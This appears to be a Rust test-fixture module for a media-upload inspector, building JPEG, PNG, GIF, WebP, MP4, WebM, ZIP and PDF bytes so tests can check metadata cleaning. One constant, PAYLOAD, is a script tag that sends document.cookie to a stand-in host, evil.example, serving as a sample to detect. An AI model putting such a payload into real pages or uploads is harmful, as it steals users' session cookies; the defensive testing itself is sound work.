//! Files for the tests, made piece by piece, so that each test can put in what it is about.

use std::io::Cursor;

use image::{
    DynamicImage, Frame, ImageFormat, Rgba, RgbaImage,
    codecs::gif::{GifEncoder, Repeat},
};

use super::{Inspected, MediaFault, MediaLimits, inspect_bytes};

/// What a browser would run, or a reader should not see.
pub const PAYLOAD: &[u8] = b"<script>fetch('//evil.example/'+document.cookie)</script>";

pub fn fixture(name: &str) -> Vec<u8> {
    let folder = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/media/");
    std::fs::read(format!("{folder}{name}")).expect("a fixture")
}

pub fn limits() -> MediaLimits {
    MediaLimits::new(10 * 1024 * 1024, 100 * 1024 * 1024)
}

pub fn judged(bytes: &[u8]) -> Result<Inspected, MediaFault> {
    inspect_bytes(bytes, &limits())
}

/// The file as it is stored.
pub fn cleaned(bytes: &[u8], inspected: &Inspected) -> Vec<u8> {
    match &inspected.cleaned {
        Some(cleaned) => cleaned.applied_to(bytes).expect("it is changed in memory"),
        None => bytes.to_vec(),
    }
}

pub fn holds(bytes: &[u8], wanted: &[u8]) -> bool {
    bytes.windows(wanted.len()).any(|window| window == wanted)
}

/// Four differently coloured quarters: however it is turned or mirrored, it can be told.
pub fn picture(width: u32, height: u32) -> DynamicImage {
    DynamicImage::ImageRgba8(RgbaImage::from_fn(width, height, |x, y| {
        match (x < width / 2, y < height / 2) {
            (true, true) => Rgba([220, 30, 30, 255]),
            (false, true) => Rgba([30, 200, 30, 255]),
            (true, false) => Rgba([30, 30, 220, 255]),
            (false, false) => Rgba([240, 240, 240, 255]),
        }
    }))
}

pub fn encoded(picture: &DynamicImage, format: ImageFormat) -> Vec<u8> {
    let picture = match format {
        ImageFormat::Jpeg => DynamicImage::ImageRgb8(picture.to_rgb8()),
        _ => picture.clone(),
    };
    let mut bytes = Cursor::new(Vec::new());
    picture.write_to(&mut bytes, format).expect("it encodes");
    bytes.into_inner()
}

pub fn decoded(bytes: &[u8]) -> DynamicImage {
    image::load_from_memory(bytes).expect("it decodes")
}

pub fn jpeg(segments: &[(u8, &[u8])]) -> Vec<u8> {
    let plain = encoded(&picture(40, 24), ImageFormat::Jpeg);
    let mut bytes = plain[..2].to_vec();
    for (marker, body) in segments {
        bytes.extend([0xff, *marker]);
        bytes.extend(u16::try_from(body.len() + 2).expect("short").to_be_bytes());
        bytes.extend_from_slice(body);
    }
    bytes.extend_from_slice(&plain[2..]);
    bytes
}

/// Where the frame header's segment begins.
pub fn jpeg_frame(bytes: &[u8]) -> usize {
    bytes
        .windows(2)
        .position(|marker| marker == [0xff, 0xc0])
        .expect("a baseline JPEG")
}

pub fn png_chunk(kind: &[u8; 4], data: &[u8]) -> Vec<u8> {
    let mut chunk = u32::try_from(data.len()).expect("short").to_be_bytes().to_vec();
    chunk.extend_from_slice(kind);
    chunk.extend_from_slice(data);
    let mut sum = flate2::Crc::new();
    sum.update(kind);
    sum.update(data);
    chunk.extend(sum.sum().to_be_bytes());
    chunk
}

/// With these chunks between the header and the pixels.
pub fn png(chunks: &[(&[u8; 4], &[u8])]) -> Vec<u8> {
    let plain = encoded(&picture(40, 24), ImageFormat::Png);
    let mut bytes = plain[..33].to_vec();
    for (kind, data) in chunks {
        bytes.extend(png_chunk(kind, data));
    }
    bytes.extend_from_slice(&plain[33..]);
    bytes
}

pub fn png_header(width: u32, height: u32) -> Vec<u8> {
    let mut data = width.to_be_bytes().to_vec();
    data.extend(height.to_be_bytes());
    data.extend([8, 6, 0, 0, 0]);
    [b"\x89PNG\r\n\x1a\n".as_slice(), &png_chunk(b"IHDR", &data)].concat()
}

pub fn gif(frames: usize) -> Vec<u8> {
    let mut bytes = Vec::new();
    let mut encoder = GifEncoder::new(&mut bytes);
    encoder.set_repeat(Repeat::Infinite).expect("it repeats");
    for _ in 0..frames {
        let frame = Frame::new(picture(40, 24).to_rgba8());
        encoder.encode_frame(frame).expect("it encodes");
    }
    drop(encoder);
    bytes
}

/// A block of a GIF, in front of the trailer.
pub fn gif_with(block: &[u8]) -> Vec<u8> {
    let mut bytes = gif(1);
    let trailer = bytes.pop().expect("a trailer");
    bytes.extend_from_slice(block);
    bytes.push(trailer);
    bytes
}

pub fn riff_chunk(kind: &[u8; 4], data: &[u8]) -> Vec<u8> {
    let mut chunk = kind.to_vec();
    chunk.extend(u32::try_from(data.len()).expect("short").to_le_bytes());
    chunk.extend_from_slice(data);
    chunk.resize(chunk.len().next_multiple_of(2), 0);
    chunk
}

pub fn riff(chunks: &[Vec<u8>]) -> Vec<u8> {
    let body = chunks.concat();
    let mut bytes = b"RIFF".to_vec();
    bytes.extend(u32::try_from(body.len() + 4).expect("short").to_le_bytes());
    bytes.extend_from_slice(b"WEBP");
    bytes.extend(body);
    bytes
}

pub fn canvas(flags: u8, width: u32, height: u32) -> Vec<u8> {
    let [w1, w2, w3, _] = (width - 1).to_le_bytes();
    let [h1, h2, h3, _] = (height - 1).to_le_bytes();
    riff_chunk(b"VP8X", &[flags, 0, 0, 0, w1, w2, w3, h1, h2, h3])
}

/// A lossy picture of 96 by 64, as a chunk.
pub fn webp_picture() -> Vec<u8> {
    let bytes = fixture("canvas.webp");
    let at = bytes
        .windows(4)
        .position(|kind| kind == b"VP8 ")
        .expect("a lossy picture");
    let size = u32::from_le_bytes(bytes[at + 4..at + 8].try_into().expect("four bytes"));
    riff_chunk(b"VP8 ", &bytes[at + 8..][..usize::try_from(size).expect("short")])
}

pub fn webp_frame(x: u8, picture: &[u8]) -> Vec<u8> {
    let mut data = vec![x, 0, 0, 0, 0, 0, 95, 0, 0, 63, 0, 0, 40, 0, 0, 0];
    data.extend_from_slice(picture);
    riff_chunk(b"ANMF", &data)
}

/// EXIF as a TIFF structure: the orientation, and a position with a marker in it.
pub fn exif(orientation: u16) -> Vec<u8> {
    let mut bytes = b"MM\0\x2a\0\0\0\x08\0\x02".to_vec();
    bytes.extend(b"\x01\x12\0\x03\0\0\0\x01");
    bytes.extend(orientation.to_be_bytes());
    bytes.extend([0, 0]);
    // GPSInfo, at 38: latitude, as text of 27 bytes behind it.
    bytes.extend(b"\x88\x25\0\x04\0\0\0\x01\0\0\0\x26\0\0\0\0");
    bytes.extend(b"\0\x01\0\x01\0\x02\0\0\0\x1c\0\0\0\x38\0\0\0\0");
    bytes.extend(b"GPS 48.137154N 11.576124E !\0");
    bytes
}

pub fn boxed(kind: &[u8; 4], parts: &[&[u8]]) -> Vec<u8> {
    let size = 8 + parts.iter().map(|part| part.len()).sum::<usize>();
    let mut bytes = u32::try_from(size).expect("short").to_be_bytes().to_vec();
    bytes.extend_from_slice(kind);
    bytes.extend(parts.concat());
    bytes
}

/// The pieces of a movie that tests vary.
#[derive(Clone)]
pub struct Mp4 {
    pub brand: [u8; 4],
    pub handler: [u8; 4],
    /// When it was recorded, as `mvhd`, `tkhd` and `mdhd` say it; what its handlers and its compressor are called.
    pub recorded: [u8; 4],
    pub made_by: [u8; 8],
    /// Stands behind the last field of every box without boxes in it.
    pub appended: Vec<u8>,
    pub data_reference: Vec<u8>,
    /// Two numbers of the matrix: (1, 0) upright, (0, 1) turned by 90 degrees.
    pub turn: (u32, u32),
    /// Boxes inside of `moov`, of `trak`, and at the end.
    pub in_movie: Vec<u8>,
    pub in_track: Vec<u8>,
    pub at_end: Vec<u8>,
    /// A second track, of this kind, with this one sample.
    pub notes: Option<([u8; 4], Vec<u8>)>,
}

impl Default for Mp4 {
    fn default() -> Self {
        Mp4 {
            brand: *b"isom",
            handler: *b"vide",
            recorded: [0; 4],
            made_by: [0; 8],
            appended: Vec::new(),
            data_reference: boxed(b"url ", &[&[0, 0, 0, 1]]),
            turn: (1, 0),
            in_movie: Vec::new(),
            in_track: Vec::new(),
            at_end: Vec::new(),
            notes: None,
        }
    }
}

/// What stands in `mdat` of every movie.
pub const SAMPLE: &[u8] = b"compressed picture";

impl Mp4 {
    pub fn bytes(&self) -> Vec<u8> {
        let head = boxed(b"ftyp", &[&self.brand, &[0, 0, 2, 0], &self.brand]);
        let notes = self.notes.as_ref().map_or(&[][..], |(_, sample)| sample);
        let data = boxed(b"mdat", &[SAMPLE, notes]);
        let start = u32::try_from(head.len() + 8).expect("short");
        let mut movie = vec![self.header(b"mvhd", 1000, 2500, 80)];
        movie.push(self.track(1, self.handler, start, SAMPLE.len(), &self.in_track));
        if let Some((handler, sample)) = &self.notes {
            let at = start + u32::try_from(SAMPLE.len()).expect("short");
            movie.push(self.track(2, *handler, at, sample.len(), &[]));
        }
        movie.push(self.in_movie.clone());
        let movie = boxed(b"moov", &[&movie.concat()]);
        [head, data, movie, self.at_end.clone()].concat()
    }

    fn track(&self, id: u32, kind: [u8; 4], at: u32, size: usize, more: &[u8]) -> Vec<u8> {
        let one = 1_u32.to_be_bytes();
        let (a, b) = (self.turn.0 << 16, self.turn.1 << 16);
        let matrix = [a, b, 0, 0_u32.wrapping_sub(b), a, 0, 0, 0, 1 << 30]
            .map(u32::to_be_bytes)
            .concat();
        let size_shown = [(640_u32 << 16).to_be_bytes(), (360_u32 << 16).to_be_bytes()].concat();
        let leaf = |kind: &[u8; 4], parts: &[&[u8]]| boxed(kind, &[parts, &[self.appended.as_slice()]].concat());
        let track_head = leaf(
            b"tkhd",
            &[
                &[0; 4],
                &self.recorded.repeat(2),
                &id.to_be_bytes(),
                &[0; 24],
                &matrix,
                &size_shown,
            ],
        );
        let size = u32::try_from(size).expect("short").to_be_bytes();
        let compressor = [
            &[0; 42][..],
            &[if self.made_by == [0; 8] { 0 } else { 8 }],
            &self.made_by,
            &[0; 23],
            &[0, 24, 0xff, 0xff],
        ]
        .concat();
        let tables = boxed(
            b"stbl",
            &[
                &leaf(b"stsd", &[&[0; 4], &one, &boxed(b"avc1", &[&compressor])]),
                &leaf(b"stts", &[&[0; 4], &one, &one, &2500_u32.to_be_bytes()]),
                &leaf(b"stsc", &[&[0; 4], &one, &one, &one, &one]),
                &leaf(b"stsz", &[&[0; 4], &[0; 4], &one, &size]),
                &leaf(b"stco", &[&[0; 4], &one, &at.to_be_bytes()]),
            ],
        );
        let places = boxed(b"dinf", &[&boxed(b"dref", &[&[0; 4], &one, &self.data_reference])]);
        let handler = |kind: &[u8; 4]| leaf(b"hdlr", &[&[0; 8], kind, &[0; 12], &self.made_by, &[0]]);
        let media = boxed(
            b"mdia",
            &[
                &self.header(b"mdhd", 1000, 2500, 4),
                &handler(&kind),
                &boxed(
                    b"minf",
                    &[&leaf(b"vmhd", &[&[0; 12]]), &handler(b"url "), &places, &tables],
                ),
            ],
        );
        boxed(b"trak", &[&track_head, &media, more])
    }

    /// A box that begins as `mvhd` and `mdhd` do.
    fn header(&self, kind: &[u8; 4], timescale: u32, duration: u32, rest: usize) -> Vec<u8> {
        boxed(
            kind,
            &[
                &[0; 4],
                &self.recorded.repeat(2),
                &timescale.to_be_bytes(),
                &duration.to_be_bytes(),
                &vec![0; rest],
                &self.appended,
            ],
        )
    }
}

/// An element of EBML with a size of four bytes.
pub fn element(id: u32, body: &[u8]) -> Vec<u8> {
    let mut bytes: Vec<u8> = id.to_be_bytes().into_iter().skip_while(|byte| *byte == 0).collect();
    bytes.extend((0x1000_0000 | u32::try_from(body.len()).expect("short")).to_be_bytes());
    bytes.extend_from_slice(body);
    bytes
}

pub fn webm_head(doc_type: &[u8]) -> Vec<u8> {
    // The text's size in one byte, as all programs write it.
    let mut kind = vec![0x42, 0x82, 0x80 | u8::try_from(doc_type.len()).expect("short")];
    kind.extend_from_slice(doc_type);
    element(0x1a45_dfa3, &[element(0x42f7, &[1]), kind].concat())
}

/// With one video track and one block; `more` stands in the segment, `in_info` in its information.
pub fn webm(more: &[u8], in_info: &[u8]) -> Vec<u8> {
    let info = element(
        0x1549_a966,
        &[
            &element(0x2a_d7b1, &[0x0f, 0x42, 0x40]),
            &element(0x4489, &1234.0_f64.to_be_bytes())[..],
            in_info,
        ]
        .concat(),
    );
    let video = element(0xe0, &[element(0xb0, &[1, 64]), element(0xba, &[0, 240])].concat());
    let track = [element(0xd7, &[1]), element(0x83, &[1]), element(0x86, b"V_VP9"), video].concat();
    let tracks = element(0x1654_ae6b, &element(0xae, &track));
    let cluster = element(
        0x1f43_b675,
        &[element(0xe7, &[0]), element(0xa3, &[0x81, 0, 7, 0x80, 1, 2, 3])].concat(),
    );
    let segment = element(0x1853_8067, &[&info[..], &tracks, more, &cluster].concat());
    [webm_head(b"webm"), segment].concat()
}

/// The end of a ZIP archive, whose comment reaches to the end of the file.
pub fn zip(comment: &[u8]) -> Vec<u8> {
    let mut bytes = b"PK\x03\x04archive entry PK\x05\x06".to_vec();
    bytes.extend([0; 16]);
    bytes.extend(u16::try_from(comment.len()).expect("short").to_le_bytes());
    bytes.extend_from_slice(comment);
    bytes
}

/// The list of an archive's one file, and the archive's last record, without a comment.
pub fn zip_of_one() -> Vec<u8> {
    let list = [b"PK\x01\x02".as_slice(), &[0; 42]].concat();
    let size = u32::try_from(list.len()).expect("short").to_le_bytes();
    let counts = [0, 0, 0, 0, 1, 0, 1, 0];
    [&list, b"PK\x05\x06".as_slice(), &counts, &size, &[0; 6]].concat()
}

pub fn pdf() -> Vec<u8> {
    b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\nxref\n0 1\ntrailer << /Root 1 0 R >>\nstartxref\n9\n%%EOF\n"
        .to_vec()
}
